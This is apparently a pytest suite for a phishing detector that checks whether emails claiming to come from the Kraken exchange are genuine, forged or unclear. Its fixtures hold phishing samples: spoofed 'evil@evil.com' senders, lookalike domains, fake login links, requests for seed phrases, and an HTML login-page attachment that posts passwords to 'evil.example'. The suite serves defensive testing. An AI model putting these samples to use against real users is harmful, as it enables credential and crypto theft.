"""The email check end to end: the corpus, signed mail, and every forgery kept untrusted."""

from __future__ import annotations

from pathlib import Path

import pytest

from kraken_guard.core.email.pgp_signature import KrakenKey
from kraken_guard.core.email.reading import read_email, read_email_file
from kraken_guard.core.email.verdict import HEADLINES, EmailVerdict, check_email
from tests.email_corpus.build_corpus import CORPUS, GENUINE_BODY, HERE, YAHOO_TOP
from tests.email_corpus.signing import NO_PROVIDER_TOP, signed_email, signing_key

EXPECTED = {
    "genuine": EmailVerdict.PASSED_PROVIDER_CHECKS,
    "forged": EmailVerdict.NOT_FROM_KRAKEN,
    "unclear": EmailVerdict.CANNOT_TELL,
}
CORPUS_FILES = sorted(HERE.glob("*.eml"))


def test_the_committed_corpus_matches_its_builder() -> None:
    assert {path.name for path in CORPUS_FILES} == set(CORPUS)
    for path in CORPUS_FILES:
        assert path.read_bytes() == CORPUS[path.name].replace("\n", "\r\n").encode("utf-8")


@pytest.mark.parametrize("path", CORPUS_FILES, ids=lambda p: p.stem)
def test_every_fixture_gets_its_verdict(path: Path) -> None:
    result = check_email(read_email_file(path))
    assert result.verdict is EXPECTED[path.name.split("_", 1)[0]]
    assert result.reasons


@pytest.mark.parametrize(
    "path", [p for p in CORPUS_FILES if not p.name.startswith("genuine")], ids=lambda p: p.stem
)
def test_no_forgery_is_ever_trusted_even_with_kraken_key_saved(path: Path) -> None:
    key = signing_key()
    saved = (KrakenKey(key.fingerprint, key.public_armored),)
    result = check_email(read_email_file(path), kraken_keys=saved, pinned=key.fingerprint)
    assert not result.trusting


def test_genuine_mail_from_each_provider_says_strong_but_not_proof() -> None:
    for provider in ("gmail", "outlook", "yahoo", "icloud", "fastmail", "proton"):
        result = check_email(read_email_file(HERE / f"genuine_{provider}.eml"))
        text = " ".join(result.reason_texts())
        assert "not proof" in text, provider


def test_verdicts_lead_with_what_to_do_and_never_say_safe() -> None:
    for headline in HEADLINES.values():
        assert "safe" not in headline.lower()
    assert HEADLINES[EmailVerdict.NOT_FROM_KRAKEN].startswith(
        "Do not act on this email. It is not from Kraken."
    )


def test_a_lookalike_sender_lists_every_reason() -> None:
    result = check_email(read_email_file(HERE / "forged_lookalike_sender.eml"))
    text = " ".join(result.reason_texts())
    assert "spelled almost like Kraken" in text
    assert "krakem.com" in text
    assert "the call is a scam" in text


def test_a_forward_says_to_open_the_original() -> None:
    result = check_email(read_email_file(HERE / "unclear_forwarded.eml"))
    assert "This is a forward" in result.reason_texts()[0]


def test_a_forward_asking_for_a_code_is_still_not_from_kraken() -> None:
    text = CORPUS["unclear_forwarded.eml"] + "\nPlease reply with your 2FA code.\n"
    result = check_email(read_email(text.encode()))
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN


def test_cannot_tell_says_how_to_get_the_full_source() -> None:
    result = check_email(read_email_file(HERE / "unclear_no_authentication_results.eml"))
    text = " ".join(result.reason_texts())
    assert "Show original" in text and "View message source" in text and "Ctrl+U" in text


# Signed mail, with a key made for the tests and injected as the pinned one.


def _saved(key_name: str = "Kraken Exchange <exchange@kraken.com>") -> tuple[KrakenKey, ...]:
    key = signing_key(key_name)
    return (KrakenKey(key.fingerprint, key.public_armored),)


def test_a_valid_signature_with_the_pinned_key_is_signed_by_kraken() -> None:
    key = signing_key()
    data = signed_email(key, top=NO_PROVIDER_TOP)
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert result.verdict is EmailVerdict.SIGNED_BY_KRAKEN
    assert "valid signature" in result.reason_texts()[0]


def test_a_signed_email_saved_with_bare_line_feeds_still_checks() -> None:
    key = signing_key()
    data = signed_email(key, top=NO_PROVIDER_TOP).replace(b"\r\n", b"\n")
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert result.verdict is EmailVerdict.SIGNED_BY_KRAKEN


def test_a_changed_signed_email_is_not_from_kraken_even_when_dmarc_passed() -> None:
    key = signing_key()
    data = signed_email(key, top=YAHOO_TOP, tamper=True)
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    assert "does not match the text" in " ".join(result.reason_texts())


def test_an_email_signed_by_another_key_is_not_from_kraken() -> None:
    kraken = signing_key()
    impostor = signing_key("Kraken Exchange (impostor) <exchange@kraken.com>")
    data = signed_email(impostor, top=NO_PROVIDER_TOP)
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=kraken.fingerprint)
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    assert "not with Kraken's key" in " ".join(result.reason_texts())


def test_the_real_pinned_fingerprint_never_accepts_the_test_key() -> None:
    key = signing_key()
    data = signed_email(key, top=NO_PROVIDER_TOP)
    result = check_email(read_email(data), kraken_keys=_saved())  # the product's pinned one
    assert result.verdict is EmailVerdict.CANNOT_TELL
    # The signature names its maker, so another key is told apart without Kraken's key.
    assert "made by another key" in result.reason_texts()[0]


def test_a_valid_signature_does_not_cover_a_lookalike_sender() -> None:
    key = signing_key()
    data = signed_email(
        key, top=NO_PROVIDER_TOP, from_="Kraken <no-reply@krakem.com>", domain="krakem.com"
    )
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN


def test_a_signed_email_asking_for_seed_words_is_not_from_kraken() -> None:
    key = signing_key()
    body = "Hello.\n\nPlease send your seed phrase to finish the check.\n"
    data = signed_email(key, top=NO_PROVIDER_TOP, body=body)
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN


def test_json_has_verdict_reasons_and_findings() -> None:
    result = check_email(read_email_file(HERE / "forged_link_text_lies_html_only.eml"))
    data = result.as_json()
    assert data["verdict"] == "not_from_kraken"
    assert isinstance(data["reasons"], list) and data["reasons"]
    findings = data["findings"]
    assert isinstance(findings, list)
    lying = [f for f in findings if f["value"] == "https://kraken-verify.webflow.io/login"]
    assert lying and lying[0]["not_from_kraken"]


def test_a_reported_scam_number_in_the_email_makes_it_not_from_kraken() -> None:
    from datetime import UTC, datetime

    text = CORPUS["genuine_gmail.eml"] + "\nIf you have questions call +1 888 555 0123.\n"
    result = check_email(
        read_email(text.encode()),
        scam_reports=lambda e164: (
            datetime(2026, 11, 1, tzinfo=UTC) if e164 == "+18885550123" else None
        ),
    )
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    numbers = [f for f in result.findings if f.kind == "number"]
    assert [f.value for f in numbers] == ["+1 888-555-0123"]


@pytest.mark.parametrize(
    "from_",
    [
        "support@kraken.com <evil@evil.com>",
        "Kraken support@kraken.com <evil@evil.com>",
        "=?utf-8?q?support=40kraken=2Ecom?= <evil@evil.com>",
    ],
)
def test_an_address_written_before_the_real_one_is_read_as_a_name(from_: str) -> None:
    text = CORPUS["genuine_gmail.eml"].replace(
        "From: Kraken Support <support@kraken.com>", f"From: {from_}"
    )
    result = check_email(read_email(text.encode()))
    assert result.sender == "evil@evil.com"
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    assert "but the real address is at evil.com" in " ".join(result.reason_texts())


def test_a_damaged_from_whose_address_cannot_be_told_is_never_kraken() -> None:
    text = CORPUS["genuine_gmail.eml"].replace(
        "From: Kraken Support <support@kraken.com>", "From: Kraken support@kraken.com"
    )
    result = check_email(read_email(text.encode()))
    assert result.sender != "support@kraken.com"
    assert not result.trusting


def _long_html(padding_bytes: int, tail: str) -> bytes:
    from tests.email_corpus.build_corpus import GMAIL_TOP, html_message

    block = "<div><p><b>Markets</b> <i>moved</i> <span>today.</span></p></div>\n"
    html = "<html><body>" + block * (padding_bytes // len(block)) + tail + "</body></html>"
    return html_message(GMAIL_TOP, html).encode()


def test_a_fake_link_after_a_megabyte_of_tags_is_found() -> None:
    import time

    fake = '<p><a href="https://kraken-verify.webflow.io/login">https://www.kraken.com</a></p>'
    data = _long_html(1_000_000, fake)
    start = time.perf_counter()
    result = check_email(read_email(data))
    assert time.perf_counter() - start < 3
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    assert any(f.value == "https://kraken-verify.webflow.io/login" for f in result.findings)


def test_an_email_too_long_to_read_in_full_says_so_and_is_never_trusted() -> None:
    from kraken_guard.core.email.reading import MAX_BODY_CHARS

    text = CORPUS["genuine_gmail.eml"] + "Markets moved today.\n" * (MAX_BODY_CHARS // 20)
    result = check_email(read_email(text.encode()))
    assert result.verdict is EmailVerdict.CANNOT_TELL
    assert "read only the first part" in result.reason_texts()[0]


def test_a_partly_read_email_with_a_lie_in_the_read_part_is_still_not_from_kraken() -> None:
    from kraken_guard.core.email.reading import MAX_BODY_CHARS

    text = CORPUS["forged_never_ask_request.eml"] + "Markets moved.\n" * (MAX_BODY_CHARS // 14)
    result = check_email(read_email(text.encode()))
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    assert "read only the first part" in " ".join(result.reason_texts())


def test_a_newsletter_with_many_links_checks_every_link_and_stays_trusted() -> None:
    links = "".join(
        f"<p><a href='https://blog.kraken.com/post/{n}'>post {n}</a></p>\n" for n in range(1500)
    )
    fake = "<p><a href='https://krakenpro.co.com/confirm'>confirm</a></p>"
    genuine = check_email(read_email(_long_html(0, links)))
    assert genuine.verdict is EmailVerdict.PASSED_PROVIDER_CHECKS
    forged = check_email(read_email(_long_html(0, links + fake)))
    assert forged.verdict is EmailVerdict.NOT_FROM_KRAKEN


@pytest.mark.parametrize(
    "name",
    [
        "genuine_gmail.eml",
        "genuine_gmail_html_only.eml",
        "unclear_no_authentication_results.eml",
        "unclear_forwarded.eml",
        "unclear_unknown_top_fake_gmail_below.eml",
        "no_from",
        "two_froms",
    ],
)
def test_a_never_ask_request_makes_every_path_not_from_kraken(name: str) -> None:
    source = CORPUS.get(name, CORPUS["genuine_gmail.eml"])
    if name == "no_from":
        source = source.replace("From: Kraken Support <support@kraken.com>\n", "")
    if name == "two_froms":
        source = source.replace("From: ", "From: a@kraken.com\nFrom: ", 1)
    text = source + "\nTo unlock your account, reply with your recovery phrase.\n"
    result = check_email(read_email(text.encode()))
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    assert "recovery phrase" in " ".join(result.reason_texts())


def _wrapped(inner_signed: bytes, extra_part: str, outer: str = "multipart/mixed") -> bytes:
    """The signed email's body, put inside another multipart beside an unsigned part."""
    head, _, body = inner_signed.partition(b"\r\n\r\n")
    signed_type = head.split(b"Content-Type: ", 1)[1].split(b"\r\n", 1)[0]
    top = head.split(b"Content-Type: ", 1)[0]
    return (
        top
        + f'Content-Type: {outer}; boundary="outer-1"\r\n\r\n'.encode()
        + b"--outer-1\r\nContent-Type: "
        + signed_type
        + b"\r\n\r\n"
        + body
        + b"\r\n--outer-1\r\n"
        + extra_part.replace("\n", "\r\n").encode()
        + b"\r\n--outer-1--\r\n"
    )


UNSIGNED_ZIP = (
    'Content-Type: application/zip; name="statement.zip"\n'
    'Content-Disposition: attachment; filename="statement.zip"\n'
    "Content-Transfer-Encoding: base64\n\nUEsDBAoAAAAAAA==\n"
)
UNSIGNED_TEXT = "Content-Type: text/plain; charset=utf-8\n\nYour statement is attached.\n"
LOGIN_PAGE = (
    'Content-Type: text/html; name="Kraken_Login.html"\n'
    'Content-Disposition: attachment; filename="Kraken_Login.html"\n\n'
    '<html><body><form action="https://evil.example/p"><input type="password" name="pw">'
    "</form></body></html>\n"
)


@pytest.mark.parametrize(
    ("extra", "outer"),
    [
        (UNSIGNED_ZIP, "multipart/mixed"),
        (UNSIGNED_TEXT, "multipart/mixed"),
        (UNSIGNED_TEXT, "multipart/alternative"),
    ],
)
def test_kraken_signature_over_part_of_the_email_is_never_signed_by_kraken(
    extra: str, outer: str
) -> None:
    key = signing_key()
    data = _wrapped(signed_email(key), extra, outer)
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert not result.trusting
    assert "covers only part" in " ".join(result.reason_texts())


def test_a_signed_part_beside_a_login_page_attachment_is_not_from_kraken() -> None:
    key = signing_key()
    data = _wrapped(signed_email(key), LOGIN_PAGE)
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN
    assert any(f.kind == "attachment" and f.decisive for f in result.findings)


def test_a_third_part_inside_multipart_signed_withholds_trust() -> None:
    key = signing_key()
    data = signed_email(key).replace(
        b"\r\n--kraken-signed-7f3a--",
        b"\r\n--kraken-signed-7f3a\r\nContent-Type: text/plain\r\n\r\nHello again\r\n"
        b"--kraken-signed-7f3a--",
    )
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert not result.trusting


def _clearsigned(key: object, before: str = "") -> bytes:
    import pysequoia

    text = pysequoia.sign(
        key.secret.signer(),  # type: ignore[attr-defined]
        b"Hello,\n\nYour withdrawal was confirmed.\n\nKraken\n",
        mode=pysequoia.SignatureMode.CLEAR,
    ).decode("utf-8")
    return CORPUS["genuine_gmail.eml"].replace(GENUINE_BODY, before + text).encode("utf-8")


def test_a_clearsigned_email_is_signed_only_when_the_block_is_all_of_its_text() -> None:
    key = signing_key()
    whole = check_email(read_email(_clearsigned(key)), kraken_keys=_saved(), pinned=key.fingerprint)
    assert whole.verdict is EmailVerdict.SIGNED_BY_KRAKEN
    outside = _clearsigned(key, before="Urgent: your account is on hold.\n\n")
    part = check_email(read_email(outside), kraken_keys=_saved(), pinned=key.fingerprint)
    assert not part.trusting
    assert "covers only part" in " ".join(part.reason_texts())


def test_a_number_or_link_in_the_subject_of_a_signed_email_withholds_trust() -> None:
    key = signing_key()
    data = signed_email(key).replace(
        b"Subject: Your call with Kraken Support",
        b"Subject: Withdrawal on hold - call +1 888 416 0932",
    )
    result = check_email(read_email(data), kraken_keys=_saved(), pinned=key.fingerprint)
    assert not result.trusting
    assert any(f.kind == "number" for f in result.findings)


def test_an_attachment_withholds_a_provider_pass_and_says_so() -> None:
    data = _wrapped_plain(CORPUS["genuine_gmail.eml"], UNSIGNED_ZIP)
    result = check_email(read_email(data))
    assert result.verdict is EmailVerdict.CANNOT_TELL
    assert "statement.zip" in result.reason_texts()[0]


def test_a_password_form_in_the_email_itself_is_not_from_kraken() -> None:
    from tests.email_corpus.build_corpus import GMAIL_TOP, html_message

    page = '<html><body><form><input type="password" name="p"></form></body></html>\n'
    result = check_email(read_email(html_message(GMAIL_TOP, page).encode("utf-8")))
    assert result.verdict is EmailVerdict.NOT_FROM_KRAKEN


def _wrapped_plain(text: str, extra: str) -> bytes:
    head, _, body = text.partition("\n\n")
    head = head.replace(
        'Content-Type: text/plain; charset="UTF-8"', 'Content-Type: multipart/mixed; boundary="b1"'
    )
    text_part = f"--b1\nContent-Type: text/plain; charset=utf-8\n\n{body}\n"
    return f"{head}\n\n{text_part}--b1\n{extra}\n--b1--\n".encode()
